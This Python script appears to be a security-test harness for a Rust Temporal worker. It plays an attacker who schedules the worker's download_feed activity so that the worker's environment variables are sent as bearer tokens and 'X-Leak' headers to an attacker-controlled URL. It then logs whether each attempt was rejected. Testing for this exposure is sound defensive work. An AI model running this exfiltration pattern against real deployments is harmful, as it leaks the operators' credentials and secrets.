"""An attacker with access to the Temporal namespace, run by host/cli/tests/security.rs: a
Python workflow that schedules the Rust worker's `download_feed` activity itself, with an input
naming the worker's own environment variables as "credentials" for a URL the attacker controls.
Each attempt is printed as {"var", "type", "non_retryable"} (or {"var", "fetched": true} if the
worker sent the request).

Usage: exfil.py ADDRESS RUST_QUEUE URL VAR [VAR ...]
"""

import asyncio
import os
import json
import sys
import uuid
from datetime import timedelta

from temporalio import workflow
from temporalio.client import Client
from temporalio.common import RetryPolicy
from temporalio.exceptions import ActivityError
from temporalio.worker import Worker


@workflow.defn(name="ExfilWorkflow")
class ExfilWorkflow:
    @workflow.run
    async def run(self, rust_queue: str, url: str, variables: list) -> list:
        results = []
        for var in variables:
            # Header values and bearer tokens both read a variable by name.
            attempt = {
                "url": url,
                "auth": {"kind": "bearer", "token_env": var},
                "header_envs": [["X-Leak", var]],
                "max_bytes": 1024,
                "timeout_secs": 5,
            }
            try:
                await workflow.execute_activity(
                    "download_feed",
                    attempt,
                    task_queue=rust_queue,
                    start_to_close_timeout=timedelta(seconds=30),
                    retry_policy=RetryPolicy(maximum_attempts=1),
                )
                results.append({"var": var, "fetched": True})
            except ActivityError as e:
                cause = e.cause
                results.append(
                    {
                        "var": var,
                        "type": getattr(cause, "type", None),
                        "non_retryable": getattr(cause, "non_retryable", None),
                        "message": str(cause),
                    }
                )
        return results


async def main() -> None:
    address, rust_queue, url = sys.argv[1:4]
    variables = sys.argv[4:]
    client = await Client.connect(address)
    py_queue = f"py-exfil-{uuid.uuid4()}"
    async with Worker(client, task_queue=py_queue, workflows=[ExfilWorkflow]):
        results = await client.execute_workflow(
            ExfilWorkflow.run,
            args=[rust_queue, url, variables],
            id=f"py-exfil-{uuid.uuid4()}",
            task_queue=py_queue,
            execution_timeout=timedelta(minutes=2),
        )
    print(json.dumps(results))


if __name__ == "__main__":
    asyncio.run(main())
    # The gRPC extension can abort the interpreter while it finalizes ("PyGILState_Release:
    # thread state ... must be current") after all the work succeeded: leave without finalizing.
    sys.stdout.flush()
    os._exit(0)
